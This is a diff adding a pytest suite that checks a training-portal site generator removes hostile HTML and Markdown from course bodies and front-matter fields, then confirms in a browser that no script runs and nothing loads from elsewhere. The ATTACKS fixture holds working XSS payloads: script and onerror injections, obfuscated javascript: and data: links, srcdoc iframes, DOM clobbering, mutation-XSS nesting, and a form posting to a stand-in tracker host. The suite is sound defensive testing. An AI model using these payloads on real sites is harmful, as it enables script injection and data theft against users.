@@ -1,0 +1,151 @@
+"""Hostile HTML and Markdown in course bodies and YAML fields: removed at build time, never run in a browser.
+
+One hostile content repository is built once (without --strict, so that the harmless output can be
+inspected; the strict build refuses it) and read by every test; Chromium loads each page type from a
+plain server and from nginx with the shipped Content-Security-Policy, recording every request.
+"""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from conftest import make_repo, serve
+from generator.html_audit import audit_html
+from generator.publish.site_check import audit_site
+from nginx_server import Nginx
+
+COURSE = "curriculum/courses/basic/etiquette.md"
+PWN = "window.__pwned=1"
+ATTACKS = f"""
+<script>{PWN}</script>
+<script src="../../../assets/evil.js"></script>
+<img src="x" onerror="{PWN}">
+<img src="https://tracker.example/pixel.png" alt="pixel">
+<img src="&#x68;ttps://tracker.example/entity.png">
+<svg><image href="https://tracker.example/svg.png"/><script>{PWN}</script></svg>
+<object data="https://tracker.example/object"></object>
+<embed src="https://tracker.example/embed">
+<iframe src="../../../"></iframe>
+<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>
+<div style="background:url('https://tracker.example/style.png')">风格</div>
+<video><source src="https://tracker.example/v.mp4"></video>
+<link rel="stylesheet" href="https://tracker.example/x.css">
+<style>@import url(https://tracker.example/i.css);</style>
+<base href="https://tracker.example/">
+<meta http-equiv="refresh" content="0;url=javascript:{PWN}">
+<form action="https://tracker.example/steal"><input name="q"><button>提交</button></form>
+<a href="&#106;avascript:{PWN}">entity link</a>
+<a href="java&#x09;script:{PWN}">tab link</a>
+<a href="data:text/html,<script>{PWN}</script>">data link</a>
+<a href="/\\tracker.example/">backslash</a>
+<img name="currentScript" src="a.png">
+<div id="mermaid">clobber</div>
+<math><mtext><table><mglyph><style><img src=x onerror="{PWN}"></style></mglyph></table></mtext></math>
+<p>正文仍然可读。</p>
+"""
+KEPT = """
+!!! warning "注意"
+    告警框保留。
+
+<details><summary>展开</summary>折叠内容</details>
+
+| 列一 | 列二 |
+| --- | --- |
+| 表格 | 保留 |
+
+[站内链接](../products/) · [外部链接](https://example.com/)
+
+```mermaid
+flowchart LR
+  A --> B
+```
+"""
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    repo = make_repo(tmp_path_factory.mktemp("hostile") / "content")
+    text = repo.read(COURSE)
+    repo.write(COURSE, text + ATTACKS + KEPT)
+    repo.replace(COURSE, "summary: 接听电话的基本礼仪", "summary: '[点我](&#106;avascript:window.__pwned=1) <img src=x onerror=alert(1)>'")
+    repo.replace(COURSE, "  - knowledge: 说出标准开场白", "  - knowledge: '[x](java&#x0A;script:alert(1)) ![p](https://tracker.example/o.png)'")
+    repo.write("curriculum/about.md", '---\ntitle: "<img src=x onerror=window.__pwned=1>关于"\n---\n关于本门户。\n')
+    strict = repo.build()
+    result = repo.run("build")
+    repo.strict_result, repo.result = strict, result
+    return repo
+
+
+def test_strict_build_refuses_the_page_naming_the_file(hostile):
+    assert hostile.strict_result.returncode == 1
+    assert f"{COURSE}: removed from the page, which runs script" in hostile.strict_result.stderr
+    assert "loads a resource from another origin: <img src=\"https://tracker.example/pixel.png\">" in hostile.strict_result.stderr
+
+
+def test_lenient_build_is_harmless_and_keeps_what_trainers_write(hostile):
+    assert hostile.result.returncode == 0, hostile.result.stderr
+    html = hostile.html("courses/basic/etiquette/")
+    article = html.split('<article class="md-content__inner md-typeset">', 1)[1].split("</article>", 1)[0]
+    assert audit_html(article).findings == [] and "tracker.example/pixel" not in article
+    assert not re.search(r"<[^>]*\b(onerror|href=\"(javascript|data):)", article, re.I)
+    assert not re.search(r"<(script|iframe|object|embed|svg|form|base|meta|link|style|math)\b", article.split('class="training-quiz"')[0])
+    assert 'name="currentScript"' not in article and 'id="mermaid"' not in article
+    assert "正文仍然可读。" in article and 'class="admonition warning"' in article and "<details>" in article
+    assert "<table>" in article and 'href="../products/"' in article and 'href="https://example.com/"' in article
+    assert '<pre class="mermaid">' in article
+    # The whole site passes the same audit `publish` runs (the manifest is absent: not a strict build).
+    assert audit_site(hostile.site) == []
+    assert not (hostile.site / "training-build.json").exists()
+
+
+def test_titles_from_front_matter_are_text(hostile):
+    page = hostile.html("about/")
+    assert "&lt;img src=x onerror=window.__pwned=1&gt;关于" in page
+    assert [f for f in audit_html(page).findings] == []
+
+
+@pytest.fixture(scope="module")
+def servers(hostile, tmp_path_factory):
+    plain, plain_url = serve(hostile.site)
+    webroot = tmp_path_factory.mktemp("webroot")
+    (webroot / "current").symlink_to(hostile.site)
+    nginx = Nginx(webroot, tmp_path_factory.mktemp("nginx")).start()
+    yield {"plain": plain_url, "nginx": nginx.url}
+    plain.shutdown()
+    nginx.stop()
+
+
+PAGES = ["", "courses/basic/etiquette/", "about/", "paths/new-hire/", "quizzes/etiquette-check/", "catalog/",
+         "glossary/", "guide/", "competencies/"]
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("server", ["plain", "nginx"])
+def test_no_injected_script_runs_and_nothing_is_fetched_from_elsewhere(browser, servers, server):
+    base = servers[server]
+    context = browser.new_context()
+    page = context.new_page()
+    requests: list[str] = []
+    dialogs: list[str] = []
+    page.on("request", lambda request: requests.append(request.url))
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    try:
+        for path in PAGES:
+            page.goto(base + path, wait_until="load")
+            page.wait_for_timeout(300)
+            assert page.evaluate("() => window.__pwned === undefined && window.parent.__pwned === undefined"), path
+            assert page.evaluate("() => typeof document.currentScript !== 'object' || document.currentScript === null"), path
+        # Clicking the disarmed links runs nothing either.
+        page.goto(base + "courses/basic/etiquette/")
+        for text in ("entity link", "tab link", "data link"):
+            page.get_by_text(text).click()
+            page.wait_for_timeout(200)
+            assert page.evaluate("() => window.__pwned === undefined"), text
+            page.goto(base + "courses/basic/etiquette/")
+    finally:
+        context.close()
+    assert dialogs == []
+    outside = [url for url in requests if not url.startswith(base)]
+    assert outside == [], outside
